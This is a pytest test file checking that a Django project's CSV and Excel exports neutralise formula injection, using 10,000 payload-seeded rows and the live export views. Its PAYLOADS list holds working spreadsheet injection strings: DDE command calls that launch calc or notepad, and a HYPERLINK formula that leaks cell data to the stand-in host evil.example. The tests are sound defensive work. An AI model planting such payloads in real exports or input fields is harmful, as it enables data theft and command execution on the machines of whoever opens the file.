"""Formula injection in CSV and Excel exports (RELIABILITY row 15).

10 000 rows whose every text cell starts with a formula trigger (=, +, -, @, TAB, CR) go through
reporting/exports.py: 0 cells of the CSV start with a trigger once parsed back, the CSV is RFC 4180
(CRLF records, quoted fields where needed, quotes doubled), and no cell of the Excel file is a
formula. The real export views are checked too, with payloads stored in risks and project names.
"""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from projects.models import Risk
from reporting.exports import FORMULA_TRIGGERS, Column, csv_bytes, csv_from_columns, xlsx_bytes

ROWS = 10_000
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
    "+SUM(1,1)*cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=1+1;"quoted"\r\nsecond line',
]


def _rows(count: int) -> list[list[str]]:
    return [[PAYLOADS[(i + j) % len(PAYLOADS)] + f" #{i}" for j in range(4)] for i in range(count)]


def _parse(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def _record_ends(text: str) -> int:
    """CRLFs outside quoted fields: one per record (a linear scan of RFC 4180's grammar)."""
    ends, quoted, index = 0, False, 0
    while index < len(text):
        char = text[index]
        if char == '"':
            quoted = not quoted  # a doubled quote toggles twice
        elif not quoted and text.startswith("\r\n", index):
            ends += 1
            index += 1
        elif not quoted and char in "\r\n":
            raise AssertionError(f"bare line break outside quotes at {index}")
        index += 1
    assert not quoted
    return ends


def _dangerous(cells) -> list[str]:
    return [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]


def test_10000_rows_of_formula_payloads_give_no_formula_cell_and_rfc_4180_csv():
    rows = _rows(ROWS)
    content = csv_bytes(header=["=Titre", "+B", "-C", "@D"], rows=rows)
    parsed = _parse(content)
    cells = [cell for row in parsed for cell in row]
    assert len(parsed) == ROWS + 1 and len(cells) == (ROWS + 1) * 4
    assert _dangerous(cells) == []
    # nothing lost: each cell is the value itself, neutralised by a leading apostrophe
    assert parsed[1:] == [["'" + value for value in row] for row in rows]
    # RFC 4180: CRLF between records; fields holding the separator, quotes or line breaks quoted,
    # inner quotes doubled; every other field bare
    text = content.decode("utf-8")[1:]
    assert text.endswith("\r\n")
    assert '"\'=1+1;""quoted""\r\nsecond line #7"' in text
    assert _record_ends(text) == ROWS + 1
    print(
        f"\nRELIABILITY row 15 (CSV): {ROWS} rows x 4 cells seeded with =, +, -, @, TAB and CR "
        f"prefixes: {len(_dangerous(cells))} cells start with a formula trigger; RFC 4180 "
        f"(CRLF, quoted fields, doubled quotes), round-trip exact"
    )


def test_10000_rows_of_formula_payloads_give_no_formula_in_excel():
    rows = _rows(ROWS)
    columns = [Column(f"Col {j}", lambda row, j=j: row[j]) for j in range(4)]
    content = xlsx_bytes(title="Risques", columns=columns, rows=rows)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).active
    values = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert len(values) == ROWS * 4
    assert [cell.coordinate for cell in values if cell.data_type == "f"] == []
    assert [cell.value for cell in values[:4]] == rows[0]  # stored as text, unchanged
    csv_version = _parse(csv_from_columns(columns=columns, rows=rows))
    assert _dangerous(cell for row in csv_version for cell in row) == []
    print(
        f"\nRELIABILITY row 15 (Excel): {ROWS} rows x 4 cells of formula payloads: 0 formula cells "
        f"(no <f> element in the sheet), values kept as text"
    )


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_views_neutralise_stored_payloads(client_for, world, fmt):
    Risk.objects.bulk_create(
        Risk(project=world.a1, title=payload, mitigation=payload, probability=2, impact=2)
        for payload in PAYLOADS
    )
    world.a1.name = '=HYPERLINK("http://evil.example","A1")'
    world.a1.save()
    client = client_for("pmo_a")
    response = client.get(reverse("reporting:export", kwargs={"name": "risks", "fmt": fmt}))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    if fmt == "csv":
        cells = [cell for row in _parse(response.content) for cell in row]
        project_list = _parse(client.get(reverse("reporting:project-export")).content)
        cells += [cell for row in project_list for cell in row]
        assert '\'=HYPERLINK("http://evil.example","A1")' in cells
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
        cells = []
    assert _dangerous(cells) == []
    titles = set(Risk.objects.filter(project=world.a1).values_list("title", flat=True))
    assert set(PAYLOADS) <= titles  # stored as typed: neutralised on the way out only


@pytest.mark.django_db
def test_control_characters_in_stored_text_do_not_break_the_excel_exports(client_for, world):
    """Found by schemathesis (RELIABILITY row 27): a name holding a control character (accepted by
    the API and the forms) made every Excel export of the portfolio answer 500 (openpyxl refuses
    characters XML 1.0 cannot hold). The exports now leave those characters out, and keep the rest."""
    typed = "Risque\x01 fournisseur\x0b\x1f\ttab"
    shown = "Risque fournisseur\ttab"
    Risk.objects.create(project=world.a1, title=typed, mitigation=typed, probability=2, impact=2)
    world.a1.name = "Projet\x08 A1"
    world.a1.save()
    client = client_for("pmo_a")

    risks = client.get(reverse("reporting:export", kwargs={"name": "risks", "fmt": "xlsx"}))
    workbook = client.get(
        reverse("api:tabular-import-export"), {"portfolio": world.portfolio_a.pk, "kind": "workbook"}
    )

    assert (risks.status_code, workbook.status_code) == (200, 200)
    risk_cells = {c.value for row in load_workbook(io.BytesIO(risks.content)).active.iter_rows() for c in row}
    assert shown in risk_cells and typed not in risk_cells
    exported = load_workbook(io.BytesIO(workbook.content))
    cells = {c.value for sheet in exported.worksheets for row in sheet.iter_rows() for c in row}
    assert {shown, "Projet A1"} <= cells
    assert Risk.objects.get(title=typed)  # stored as typed: only the export leaves them out
